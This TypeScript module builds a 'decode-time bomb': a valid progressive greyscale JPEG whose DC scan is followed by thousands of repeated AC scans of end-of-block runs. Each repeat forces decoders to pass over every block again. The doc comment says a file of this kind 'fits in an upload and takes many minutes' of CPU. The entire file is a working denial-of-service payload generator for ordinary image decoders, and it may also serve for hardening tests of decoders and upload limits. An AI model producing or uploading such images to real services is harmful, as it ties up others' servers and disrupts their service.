import {
  BitWriter,
  FLAT_QUANTISATION,
  ZERO_DC_TABLE,
  blockCount,
  greyFrame,
  segment,
  zeroCodedBlocks,
} from "./jpeg-writer.js";

// AC table 0 for progressive scans: fifteen 4-bit codes, code n for EOBn (symbol n<<4): a run of
// 2^n to 2^(n+1)−1 blocks with nothing left to code, the run's low bits following the code.
const EOB_RUN_TABLE = segment(0xc4, [
  0x10,
  0,
  0,
  0,
  15,
  ...Array<number>(12).fill(0),
  ...Array.from({ length: 15 }, (_, n) => n << 4),
]);
const MAX_EOB_RUN = 32767;

/**
 * A decode-time bomb: a valid progressive greyscale jpeg of `width`×`height` whose DC scan is
 * followed by `scans` AC scans of the same band, each a few end-of-block runs. Decoders take the
 * repeats with a warning and make a pass over every block per scan, so the cost is
 * scans × blocks: 4000 scans of 2000×2000 is ~80 KB and seconds of CPU, 100 000 scans of 40 MP
 * fits in an upload and takes many minutes. No encoder writes more than a few dozen scans.
 */
export function scanBombJpeg(spec: { width: number; height: number; scans: number }): Buffer {
  const blocks = blockCount(spec.width, spec.height);
  const runs = new BitWriter();
  for (let left = blocks; left > 0;) {
    const run = Math.min(left, MAX_EOB_RUN);
    const n = Math.floor(Math.log2(run));
    runs.write(n, 4);
    runs.write(run - 2 ** n, n);
    left -= run;
  }
  const acScan = Buffer.concat([segment(0xda, [1, 1, 0x00, 1, 63, 0]), runs.finish()]);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    FLAT_QUANTISATION,
    greyFrame(0xc2, spec.width, spec.height),
    ZERO_DC_TABLE,
    EOB_RUN_TABLE,
    // The DC scan: spectral 0..0, every block a zero difference.
    segment(0xda, [1, 1, 0x00, 0, 0, 0]),
    zeroCodedBlocks(blocks, 1),
    ...Array<Buffer>(spec.scans).fill(acScan),
    Buffer.from([0xff, 0xd9]),
  ]);
}
